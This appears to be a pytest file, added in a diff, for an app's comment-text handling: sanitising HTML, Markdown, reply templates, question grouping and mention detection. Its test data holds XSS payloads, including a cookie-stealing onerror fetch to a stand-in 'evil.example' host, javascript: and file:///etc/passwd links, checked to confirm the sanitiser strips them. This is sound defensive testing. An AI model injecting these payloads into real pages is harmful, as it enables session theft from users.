@@ -1,0 +1,436 @@
+"""Text handling without Qt: sanitising hostile HTML, Markdown, reply templates, grouping
+similar questions, and classifying comments."""
+
+from __future__ import annotations
+
+import statistics
+from functools import cache
+
+import pytest
+
+from app.errors import UserError
+from app.sandbox import corpus
+from app.sandbox.seed import build_seed
+from app.text import similarity
+from app.text.classify import html_to_text, is_question, mentions
+from app.text.markdown import to_html
+from app.text.sanitize import is_openable_link, sanitize_html
+from app.text.templates import VARIABLES, check_template, personalise, quote
+
+# --- sanitising untrusted comment HTML ------------------------------------------------------
+
+#: (hostile input, text that must not survive anywhere in the output)
+HOSTILE = [
+    ("<p>Hi<script>alert('xss')</script></p>", "alert"),
+    ("<p>Hi<SCRIPT SRC=//evil.example/x.js></SCRIPT></p>", "evil"),
+    ('<p onclick="steal()">Thanks</p>', "steal"),
+    ("<p onmouseover=steal()>Thanks</p>", "onmouseover"),
+    ("<b onload='x()'>b</b>", "onload"),
+    ("<img src=x onerror=\"fetch('http://evil.example/'+document.cookie)\">", "onerror"),
+    ('<img src="http://tracker.example.net/pixel.gif?u=1">', "tracker"),
+    ('<p style="background:url(http://tracker.example.net/p.gif)">x</p>', "tracker"),
+    ("<style>body{display:none}</style><p>Agree</p>", "display"),
+    ('<link rel=stylesheet href="http://evil.example/s.css">', "evil"),
+    ('<iframe src="http://evil.example/frame"></iframe><p>Interesting</p>', "iframe"),
+    ('<frameset><frame src="http://evil.example"></frameset>', "evil"),
+    ('<object data="http://evil.example/x.swf">o</object>', "evil"),
+    ('<embed src="http://evil.example/x.swf">', "evil"),
+    ('<form action="http://evil.example/"><input name=pw><button>Go</button></form>', "input"),
+    ('<form action="http://evil.example/">f</form>', "form"),
+    ('<svg onload="alert(1)"><circle r=1 /></svg>', "alert"),
+    ('<math><maction actiontype="statusline">x</maction></math>', "maction"),
+    ('<meta http-equiv="refresh" content="0;url=http://evil.example">', "evil"),
+    ('<base href="http://evil.example/">', "evil"),
+    ("<p>a<!-- <script>alert(1)</script> -->b</p>", "alert"),
+    ('<video src="http://evil.example/v.mp4" autoplay></video>', "evil"),
+    ('<audio src="http://evil.example/a.mp3"></audio>', "evil"),
+    ('<p background="http://tracker.example.net/bg.gif">x</p>', "tracker"),
+]
+
+BAD_LINKS = [
+    "javascript:alert(document.cookie)",
+    "JaVaScRiPt:alert(1)",
+    " javascript:alert(1)",
+    "java&#x09;script:alert(1)",
+    "&#106;avascript:alert(1)",
+    "vbscript:msgbox(1)",
+    "data:text/html,<script>alert(1)</script>",
+    "data:image/svg+xml;base64,PHN2Zz4=",
+    "file:///etc/passwd",
+    "file://server/share/payroll.xlsx",
+    "ftp://files.example/x",
+    "smb://server/share",
+    "tel:+15555555",
+]
+
+
+@pytest.mark.parametrize(("hostile", "marker"), HOSTILE)
+def test_hostile_markup_is_removed(hostile: str, marker: str) -> None:
+    clean = sanitize_html(hostile)
+    assert marker.lower() not in clean.lower()
+    for tag in (
+        "<script",
+        "<style",
+        "<img",
+        "<iframe",
+        "<form",
+        "<input",
+        "<svg",
+        "<meta",
+        "<base",
+        "<link",
+        "<object",
+        "<embed",
+        "style=",
+        " on",
+    ):
+        assert tag not in clean.lower()
+
+
+def test_the_text_around_hostile_markup_survives() -> None:
+    assert sanitize_html("<p>Great news!<script>alert('xss')</script></p>") == "<p>Great news!</p>"
+    assert sanitize_html('<p onclick="steal()">Thanks for sharing.</p>') == (
+        "<p>Thanks for sharing.</p>"
+    )
+    assert sanitize_html('<iframe src="http://e.example"></iframe><p>Interesting.</p>').endswith(
+        "<p>Interesting.</p>"
+    )
+
+
+@pytest.mark.parametrize("href", BAD_LINKS)
+def test_links_other_than_http_https_mailto_lose_their_target(href: str) -> None:
+    clean = sanitize_html(f'<a href="{href}">Click for the real FAQ</a>')
+    assert "href" not in clean
+    assert "Click for the real FAQ" in clean
+
+
+@pytest.mark.parametrize(
+    "href",
+    ["https://intranet.example/faq", "http://example.com/a?b=1", "mailto:people@example.com"],
+)
+def test_good_links_keep_their_target_and_get_rel(href: str) -> None:
+    clean = sanitize_html(f'<a href="{href}" target="_blank" title="FAQ">FAQ</a>')
+    assert f'href="{href.replace("&", "&amp;")}"' in clean
+    assert 'rel="noopener noreferrer"' in clean
+    assert "target" not in clean and 'title="FAQ"' in clean
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="sanitize_html passes relative and protocol-relative "
+    "hrefs through; nh3.clean(..., url_relative='deny') would drop them",
+)
+@pytest.mark.parametrize("href", ["//evil.example/x", "/relative/path", "#top", "?q=1"])
+def test_relative_links_lose_their_target(href: str) -> None:
+    assert "href" not in sanitize_html(f'<a href="{href}">x</a>')
+
+
+def test_allowed_formatting_is_kept_and_attributes_dropped() -> None:
+    html = (
+        '<p class="x" id="y"><b>b</b> <strong>s</strong> <i>i</i> <em>e</em> <u>u</u> '
+        "<s>s</s> <code>c</code></p><ul><li>one</li></ul><ol><li>two</li></ol>"
+        "<blockquote>q</blockquote><pre>p</pre><br><span>sp</span>"
+    )
+    clean = sanitize_html(html)
+    for tag in (
+        "<b>",
+        "<strong>",
+        "<i>",
+        "<em>",
+        "<u>",
+        "<s>",
+        "<code>",
+        "<ul>",
+        "<ol>",
+        "<li>",
+        "<blockquote>",
+        "<pre>",
+        "<br>",
+        "<span>",
+        "<p>",
+    ):
+        assert tag in clean
+    assert "class=" not in clean and "id=" not in clean
+
+
+def test_comment_html_gets_no_document_tags() -> None:
+    assert sanitize_html("<h1>Big</h1><table><tr><td>t</td></tr></table>") == "Bigt"
+
+
+def test_escaped_markup_stays_escaped() -> None:
+    assert sanitize_html("<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>") == (
+        "<p>&lt;script&gt;alert(1)&lt;/script&gt;</p>"
+    )
+
+
+@pytest.mark.parametrize(
+    ("url", "openable"),
+    [
+        ("https://example.com", True),
+        ("HTTP://EXAMPLE.COM", True),
+        ("mailto:a@b.example", True),
+        ("javascript:alert(1)", False),
+        ("data:text/html,x", False),
+        ("file:///etc/passwd", False),
+        ("ftp://x.example", False),
+        ("//evil.example", False),
+        ("/relative", False),
+        ("", False),
+        ("about:blank", False),
+        ("https", False),
+    ],
+)
+def test_only_http_https_mailto_links_open(url: str, openable: bool) -> None:
+    assert is_openable_link(url) is openable
+
+
+# --- Markdown ---------------------------------------------------------------------------------
+
+
+def test_markdown_renders_and_escapes_raw_html() -> None:
+    html = to_html(
+        "# Title\n\n**bold** and <b>raw</b> <script>alert(1)</script>\n\n"
+        "| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~"
+    )
+    assert "<h1>Title</h1>" in html and "<strong>bold</strong>" in html
+    assert "&lt;b&gt;raw&lt;/b&gt;" in html and "<script" not in html
+    assert "<table>" in html and "<td>2</td>" in html and "<s>gone</s>" in html
+
+
+def test_markdown_links_and_images_are_safe() -> None:
+    html = to_html(
+        "[ok](https://example.com) [bad](javascript:alert(1)) "
+        "![pixel](http://tracker.example.net/p.gif)"
+    )
+    assert '<a href="https://example.com" rel="noopener noreferrer">ok</a>' in html
+    assert 'href="javascript' not in html
+    assert "<img" not in html and 'tracker.example.net/p.gif"' not in html
+
+
+# --- reply templates --------------------------------------------------------------------------
+
+
+def test_every_variable_is_filled() -> None:
+    text = personalise(
+        "Hi {first_name} ({name}),\n\n{question}\n\nThanks!",
+        "Amara Okafor",
+        "Will the reorg\n affect   bonuses?",
+    )
+    assert text == ("Hi Amara (Amara Okafor),\n\n> Will the reorg affect bonuses?\n\nThanks!")
+
+
+@pytest.mark.parametrize(
+    ("template", "named"),
+    [
+        ("Hi {firstname}", "{firstname}"),
+        ("Hi {First_Name}", "{First_Name}"),
+        ("{name.__class__}", "{name.__class__}"),
+        ("{name[0]}", "{name[0]}"),
+        ("{0} and {}", "{0}"),
+        ("{a} {b} {a}", "{a}, {b}"),
+    ],
+)
+def test_unknown_variables_are_named(template: str, named: str) -> None:
+    with pytest.raises(UserError, match="Unknown variable") as caught:
+        check_template(template)
+    assert named in str(caught.value)
+    assert all(f"{{{v}}}" in str(caught.value) for v in VARIABLES)  # and what to use instead
+
+
+@pytest.mark.parametrize(
+    "template", ["Hi {first_name", "Hi first_name}", "{", "}", "Costs {name} } less", "{{name}"]
+)
+def test_stray_braces_are_refused_with_the_fix(template: str) -> None:
+    with pytest.raises(UserError, match=r"unmatched brace.*\{\{ or \}\}"):
+        check_template(template)
+
+
+def test_doubled_braces_are_literal() -> None:
+    assert personalise("Use {{first_name}} for {first_name}", "Omar Haddad", "q") == (
+        "Use {first_name} for Omar"
+    )
+
+
+def test_braces_in_names_and_comments_are_never_interpreted() -> None:
+    text = personalise("{first_name}: {question}", "{name} {0}", "What is {first_name}? {")
+    assert text == "{name}: > What is {first_name}? {"
+
+
+def test_preview_refuses_before_filling_anything() -> None:
+    with pytest.raises(UserError):
+        personalise("Hi {nmae}", "Amara Okafor", "q")
+
+
+def test_single_word_and_empty_names() -> None:
+    assert personalise("Hi {first_name}!", "Cher", "q") == "Hi Cher!"
+    assert personalise("Hi {first_name}!", "  ", "q") == "Hi   !"
+
+
+def test_quote_shortens_at_a_word_boundary() -> None:
+    long = "word " * 100
+    quoted = quote(long, limit=22)
+    assert quoted == "> word word word word…"
+    assert quote("short", limit=22) == "> short"
+
+
+# --- similar questions ------------------------------------------------------------------------
+
+
+def test_the_documented_example_is_found() -> None:
+    candidates = {
+        1: "How does the reorg change our bonus?",
+        2: "Parking is full again.",
+        3: "The canteen food is great.",
+    }
+    assert similarity.similar("bonus payouts after the reorg", candidates) == [1]
+
+
+def test_most_similar_first_and_threshold() -> None:
+    candidates = {1: "bonus reorg payroll pension", 2: "bonus reorg", 3: "holiday canteen"}
+    assert similarity.similar("bonus reorg", candidates) == [2, 1]
+    assert similarity.similar("bonus reorg", candidates, threshold=1.01) == []
+    assert similarity.similar("bonus reorg", candidates, threshold=0.0)[:2] == [2, 1]
+
+
+def test_nothing_to_compare() -> None:
+    assert similarity.similar("the and of", {1: "the and of"}) == []
+    assert similarity.similar("", {1: "anything"}) == []
+    assert similarity.similar("bonus", {}) == []
+
+
+@pytest.mark.parametrize(
+    ("word", "root"),
+    [
+        ("bonuses", "bonus"),
+        ("bonus", "bonus"),
+        ("payouts", "payout"),
+        ("changed", "chang"),
+        ("changing", "chang"),
+        ("policies", "polic"),
+        ("status", "status"),
+        ("glass", "glass"),
+        ("analysis", "analysis"),
+        ("quickly", "quick"),
+    ],
+)
+def test_stem(word: str, root: str) -> None:
+    assert similarity.stem(word) == root
+
+
+def test_terms_drop_stopwords_and_short_words() -> None:
+    assert similarity.terms("Thanks! How does THIS affect our bonuses, ok?") == ["affect", "bonus"]
+
+
+@cache
+def _seeded_comments() -> tuple[dict[str, str], dict[str, str | None]]:
+    """The sandbox's seeded comments (others', not deleted): text and question cluster."""
+    rows = [r for r in build_seed().comments if not r["deleted"] and r["author_id"] != "u1"]
+    return (
+        {r["id"]: html_to_text(r["body_html"]) for r in rows},
+        {r["id"]: r["cluster"] for r in rows},
+    )
+
+
+def test_question_clusters_are_found_among_real_comments() -> None:
+    """One question per cluster, against every seeded comment: most of what is returned
+    asks the same thing (precision), and every question finds at least one other asker.
+
+    A floor, not a goal: recall is about 0.2 today (most paraphrases share no stem).
+    """
+    text, cluster = _seeded_comments()
+    precision, found_any = [], []
+    for name in corpus.QUESTION_CLUSTERS:
+        asker = next(i for i, c in cluster.items() if c == name)
+        hits = [i for i in similarity.similar(text[asker], text) if i != asker]
+        same = [i for i in hits if cluster[i] == name]
+        precision.append(len(same) / len(hits) if hits else 0.0)
+        found_any.append(bool(same))
+    assert statistics.mean(precision) >= 0.8
+    assert sum(found_any) >= len(found_any) - 1
+
+
+def test_unrelated_remarks_do_not_match_questions() -> None:
+    questions = {
+        i: p
+        for i, p in enumerate(
+            p for _, phrasings, _ in corpus.QUESTION_CLUSTERS.values() for p in phrasings
+        )
+    }
+    for remark in (
+        "Agreed.",
+        "This. Exactly this.",
+        "Love this. More updates like this, please.",
+        "Really appreciate the transparency here.",
+    ):
+        assert similarity.similar(remark, questions) == []
+
+
+# --- classifying comments ---------------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("html", "text"),
+    [
+        ("<p>First.</p><p>Second &amp; third.</p>", "First. Second & third."),
+        ("line<br>two<br/>three<BR />four", "line two three four"),
+        ("<ul><li>one</li><li>two</li></ul>", "one two"),
+        ("<div>a</div><div>b</div>", "a b"),
+        ("<p>Great news!<script>alert('xss')</script></p>", "Great news!"),
+        ("<style>p{color:red}</style><p>Styled</p>", "Styled"),
+        ('<a href="https://x.example">the <b>FAQ</b></a>', "the FAQ"),
+        ("<p>5 &lt; 6 &#8212; caf&eacute;</p>", "5 < 6 — café"),
+        ("  <p>\n spaced \t out </p> ", "spaced out"),
+        ("", ""),
+    ],
+)
+def test_html_to_text(html: str, text: str) -> None:
+    assert html_to_text(html) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "asks"),
+    [
+        ("Will the reorg affect our bonuses?", True),
+        ("Is this real", True),
+        ("Thanks for the update. Can you share the slides", True),
+        ("Any news on parking", True),
+        ("Great post!\nHow do we apply", True),
+        ("I know how this works.", False),
+        ("Whoever wrote this, thank you.", False),
+        ("Island sites are great.", False),
+        ("Doesn't matter to me.", False),
+        ("", False),
+    ],
+)
+def test_is_question(text: str, asks: bool) -> None:
+    assert is_question(text) is asks
+
+
+@pytest.mark.parametrize(
+    ("text", "mentioned"),
+    [
+        ("@Dana could you clarify?", True),
+        ("Thanks @dana!", True),
+        ("@Dana Whitfield will there be a town hall?", True),
+        ("Dana, thanks for this.", False),
+        ("@Danielle can you check?", False),
+        ("@Danaë was here", False),
+        ("@Whitfield hello", False),
+    ],
+)
+def test_mentions(text: str, mentioned: bool) -> None:
+    assert mentions(text, "Dana Whitfield") is mentioned
+
+
+def test_mentions_with_odd_names() -> None:
+    assert mentions("@Dana (CEO) thanks", "Dana (CEO)") is True
+    assert mentions("@anyone", "") is False
+    assert mentions("@anyone", "   ") is False
+
+
+@pytest.mark.xfail(
+    strict=True,
+    reason="an e-mail address counts as an @-mention; the pattern needs (?<![\\w.]) before the @",
+)
+def test_an_email_address_is_not_a_mention() -> None:
+    assert mentions("Write to hr@dana.example for details.", "Dana Whitfield") is False
